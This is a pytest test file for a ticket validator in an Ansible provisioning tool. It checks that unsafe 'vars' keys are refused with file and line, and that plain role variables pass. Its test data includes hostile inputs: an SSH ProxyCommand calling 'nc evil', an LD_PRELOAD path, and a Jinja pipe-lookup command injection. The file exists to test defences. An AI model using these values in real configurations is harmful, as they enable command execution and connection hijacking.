"""Ticket ``vars`` are role data: they never choose where or how Ansible runs (issue 11, item 1)."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.tickets import REPO, write_ticket
from tests.unit.test_cli_data import run

UNSAFE = [
    ({"ansible_connection": "local"}, "ansible_connection"),
    ({"ansible_host": "10.0.0.9"}, "ansible_host"),
    ({"ansible_ssh_common_args": "-o ProxyCommand='nc evil 22'"}, "ansible_ssh_common_args"),
    ({"ANSIBLE_HOST": "10.0.0.9"}, "ANSIBLE_HOST"),
    ({"govcloud_roles": ["nginx"]}, "govcloud_roles"),
    ({"hostvars": {}}, "hostvars"),
    ({"environment": {"LD_PRELOAD": "/tmp/x.so"}}, "environment"),
    ({"nginx_server_name": "{{ lookup('pipe', 'id') }}"}, "nginx_server_name"),
    ({"nginx_extra": {"a": ["ok", "{% raw %}"]}}, "nginx_extra"),
]


def _validate(path: Path) -> tuple[int, str]:
    code, out, err = run("--root", str(REPO), "validate", str(path))
    return code, out + err


@pytest.mark.parametrize(("variables", "key"), UNSAFE, ids=[k for _, k in UNSAFE])
def test_unsafe_vars_are_refused_with_file_line_and_key(tmp_path: Path, variables: dict[str, object], key: str) -> None:
    _, path = write_ticket(tmp_path, tenant="gd-gat", system="hukou", requester="sunkai",
                           vms=[{"name": "app", "count": 1, "flavor": "gc.small", "cloud": "gd-prov"}], variables=variables)
    line = next(n for n, text in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if text.lstrip().startswith(f"{key}:"))
    code, output = _validate(path)
    assert code == 2, output
    assert f"{path}:{line}: vars.{key}: variable not allowed in a ticket" in output


def test_plain_role_vars_pass(tmp_path: Path) -> None:
    _, path = write_ticket(tmp_path, tenant="gd-gat", system="hukou", requester="sunkai",
                           vms=[{"name": "app", "count": 1, "flavor": "gc.small", "cloud": "gd-prov"}],
                           variables={"nginx_server_name": "hukou.gdga.gov.cn", "nginx_ports": [80, 443]})
    code, output = _validate(path)
    assert code == 0, output
